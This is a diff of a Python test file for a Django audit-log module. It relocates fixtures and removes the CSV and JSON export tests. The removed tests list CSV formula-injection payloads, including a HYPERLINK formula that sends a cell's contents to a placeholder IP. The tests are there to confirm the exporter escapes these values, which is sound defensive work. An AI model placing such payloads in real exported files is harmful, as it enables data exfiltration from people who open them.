@@ -2,67 +2,19 @@
 
 from __future__ import annotations
 
-import csv
-import io
-import json
-from datetime import UTC, datetime
-
 import pytest
-import time_machine
-from django.utils.translation import override
 
-from accounts import audit, exports
+from accounts import audit
 from accounts.activity import entry, naming
 from accounts.actors import Actor, Channel
-from accounts.audit import Target, Verb
+from accounts.audit import Verb
 from accounts.exceptions import sentence_of
 from accounts.models import AuditEvent
 from images.rules import ImageIsShared
 
-from ..factories import AccountFactory
+from .events import image_of, shared
 
 pytestmark = pytest.mark.django_db
-
-AT = datetime(2026, 11, 24, 9, 30, 15, 250_000, tzinfo=UTC)
-
-
-@pytest.fixture
-def owner():
-    return AccountFactory.create(name="platform", account_id="a" * 32)
-
-
-@pytest.fixture
-def recipient():
-    return AccountFactory.create(name="payments", account_id="b" * 32)
-
-
-@pytest.fixture
-def other():
-    return AccountFactory.create(name="search", account_id="c" * 32)
-
-
-@pytest.fixture
-def mei(owner):
-    return Actor(
-        account=owner,
-        name="mei",
-        channel=Channel.API,
-        address="192.0.2.1",
-        request_id="11111111-2222-4333-8444-555555555555",
-        access_key_id="d" * 32,
-    )
-
-
-def image_of(owner, name="golden"):
-    return Target(type="image", id="m-abcdefgh", name=name, region="bj", owner=owner)
-
-
-def shared(by, owner, *recipients, verb=Verb.SHARE_IMAGE, **detail):
-    shares = [{"account": each.name, "accountId": each.account_id} for each in recipients]
-    with time_machine.travel(AT, tick=False):
-        return audit.record(
-            by, verb, target=image_of(owner), to=recipients, recipients=shares, **detail
-        )
 
 
 def test_the_owner_reads_it_whole(mei, owner, recipient, other):
@@ -155,121 +107,3 @@ def test_an_account_finds_others_only_where_it_reads_their_names(mei, owner, rec
         assert found(name(other), recipient) == []
         assert found(name(recipient), recipient) == []
     assert found("nobody", recipient) == found("nobody", owner) == []
-
-
-# Files
-
-
-def csv_of(entry):
-    with exports.as_csv([entry]) as file:
-        data = file.read()
-    return data, list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
-
-
-def json_of(entries):
-    with exports.as_json_lines(entries) as file:
-        return [json.loads(line) for line in file.read().decode().splitlines()]
-
-
-def test_csv_is_what_spreadsheets_read(mei, owner, recipient, other):
-    event = shared(mei, owner, recipient, other, acknowledged="2026-11 en")
-
-    data, rows = csv_of(entry(event, to=owner))
-
-    assert data.startswith(b'\xef\xbb\xbf"Time (UTC)","What was done","Verb","Result",')
-    assert data.count(b"\r\n") == data.count(b"\n") == 2
-    assert dict(zip(*rows, strict=True)) == {
-        "Time (UTC)": "2026-11-24T09:30:15.250Z",
-        "What was done": "Shared image",
-        "Verb": "image.shared",
-        "Result": "Done",
-        "Reason": "",
-        "Risk notice confirmed": "2026-11 en",
-        "Who": "mei",
-        "Account": "platform",
-        "Account ID": "a" * 32,
-        "Access key": "d" * 32,
-        "Through": "API",
-        "Address": "192.0.2.1",
-        "Region": "bj",
-        "Kind": "image",
-        "ID": "m-abcdefgh",
-        "Name": "golden",
-        "With whom": f"payments ({'b' * 32}), search ({'c' * 32})",
-        "Request ID": "11111111-2222-4333-8444-555555555555",
-    }
-
-
-def test_json_lines_are_the_same_in_every_language(mei, owner, recipient):
-    event = shared(mei, owner, recipient)
-
-    with override("zh-hans"):
-        (found,) = json_of(entry(each, to=owner) for each in [event])
-
-    assert found == {
-        "at": "2026-11-24T09:30:15.250Z",
-        "what": "Shared image",
-        "verb": "image.shared",
-        "result": "Done",
-        "reason": "",
-        "riskNotice": "",
-        "by": "mei",
-        "byAccount": "platform",
-        "byAccountId": "a" * 32,
-        "accessKeyId": "d" * 32,
-        "channel": "API",
-        "address": "192.0.2.1",
-        "region": "bj",
-        "type": "image",
-        "id": "m-abcdefgh",
-        "name": "golden",
-        "accounts": [{"account": "payments", "accountId": "b" * 32}],
-        "requestId": "11111111-2222-4333-8444-555555555555",
-    }
-
-
-@pytest.mark.parametrize(
-    "name",
-    [
-        "=1+2",
-        "+1",
-        "-1",
-        "@SUM(A1)",
-        "\t=1",
-        "\r=1",
-        "\n=1",
-        "  =1",
-        "\u3000=1",
-        "\N{NO-BREAK SPACE}@x",
-        "＝1+2",
-        "\u200b=1+2",
-        "＋1",
-        "－1",
-        "＠SUM(A1)",
-        "\ttab",
-        "\rreturn",
-        "\nline",
-        "=HYPERLINK(\"http://192.0.2.1/?\"&A1;'x')",
-    ],
-)
-def test_no_cell_is_a_formula(owner, actor_for, name):
-    target = Target(type="access-key", id="d" * 32, name=name, owner=owner)
-    event = audit.record(actor_for(owner), Verb.CREATE_KEY, target=target)
-
-    _data, (head, cells) = csv_of(entry(event, to=owner))
-    (found,) = json_of([entry(event, to=owner)])
-
-    assert cells[head.index("Name")] == f"'{name}"
-    assert found["name"] == name
-
-
-@pytest.mark.parametrize(
-    "name", ["golden", "a=b", "1-2", "金色镜像", 'says "no", and ends', "two\r\nlines", "'=1"]
-)
-def test_what_is_no_formula_stays_as_it_is(owner, actor_for, name):
-    target = Target(type="access-key", id="d" * 32, name=name, owner=owner)
-    event = audit.record(actor_for(owner), Verb.CREATE_KEY, target=target)
-
-    _data, (head, cells) = csv_of(entry(event, to=owner))
-
-    assert cells[head.index("Name")] == name
